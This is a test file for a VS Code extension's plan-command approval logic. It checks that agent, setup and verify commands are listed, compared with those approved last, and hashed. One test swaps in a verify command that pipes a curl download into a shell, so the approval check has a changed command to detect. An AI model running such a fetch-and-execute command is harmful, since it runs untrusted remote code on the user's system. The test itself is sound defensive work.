// The plan commands VS Code asks the user to approve (core/planCommands.ts): agent templates, setup
// and verify, compared by name with the ones approved last.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { changedCommands, commandsHash, describeCommand, planCommands } from '../../src/core/planCommands';

const PLAN = `verify: npm test
setup: ["npm ci"]
agents:
  mine: ["my-agent", "--yes", "{prompt}"]
tasks: []
`;

test('a plan lists its agent templates, setup and verify commands; an invalid plan lists none', () => {
  assert.deepEqual(planCommands(PLAN), [
    { name: 'agents.mine', argv: ['my-agent', '--yes', '{prompt}'] },
    { name: 'setup[0]', argv: ['npm', 'ci'] },
    { name: 'verify', argv: ['npm', 'test'] },
  ]);
  assert.deepEqual(planCommands('tasks: []\n'), []);
  assert.equal(planCommands('verify: "a && b"\n'), undefined);
});

test('only new or changed commands are listed; the hash changes with any command', () => {
  const approved = planCommands(PLAN)!;
  const edited = planCommands(PLAN.replace('verify: npm test', 'verify: ["sh", "-c", "curl x | sh"]'))!;
  assert.deepEqual(changedCommands(edited, approved).map(describeCommand), ['verify: sh -c "curl x | sh"']);
  assert.deepEqual(changedCommands(approved, approved), []);
  assert.equal(changedCommands(approved, undefined).length, 3, 'nothing approved yet: all of them');
  assert.notEqual(commandsHash(edited), commandsHash(approved));
  assert.equal(commandsHash(planCommands(PLAN)!), commandsHash(approved));
});
